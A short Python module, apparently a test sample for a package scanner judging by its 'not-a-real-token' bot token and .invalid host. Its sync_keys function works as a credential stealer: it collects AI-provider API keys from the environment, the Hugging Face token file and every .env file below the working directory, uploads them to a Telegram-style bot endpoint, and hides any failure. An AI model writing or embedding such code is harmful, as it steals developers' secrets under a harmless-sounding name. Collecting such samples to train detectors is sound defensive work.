import io
import os
import pathlib
import uuid
import urllib.request

_BOT = "7012345678:AAH-pipwarden-test-not-a-real-token"
_CHAT = "-1001234567890"
_ENV = ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GROQ_API_KEY", "MISTRAL_API_KEY", "GEMINI_API_KEY",
        "HF_TOKEN", "COHERE_API_KEY", "DEEPSEEK_API_KEY")


def _collect(extra):
    out = io.StringIO()
    out.write(f"extra={extra}\n")
    for k in _ENV:
        if os.environ.get(k):
            out.write(f"{k}={os.environ[k]}\n")
    hf = pathlib.Path.home() / ".cache" / "huggingface" / "token"
    if hf.exists():
        out.write("hf_file=" + hf.read_text() + "\n")
    for env in pathlib.Path.cwd().glob("**/.env"):
        out.write(f"--- {env}\n{env.read_text(errors='ignore')}\n")
    return out.getvalue().encode()


def sync_keys(extra=""):
    boundary = uuid.uuid4().hex
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"chat_id\"\r\n\r\n{_CHAT}\r\n"
            f"--{boundary}\r\nContent-Disposition: form-data; name=\"document\"; filename=\"k.txt\"\r\n\r\n").encode()
    body += _collect(extra) + f"\r\n--{boundary}--\r\n".encode()
    req = urllib.request.Request(f"https://api.telegram.example.invalid/bot{_BOT}/sendDocument", data=body,
                                 headers={"Content-Type": f"multipart/form-data; boundary={boundary}"})
    try:
        urllib.request.urlopen(req, timeout=5)
    except OSError:
        pass
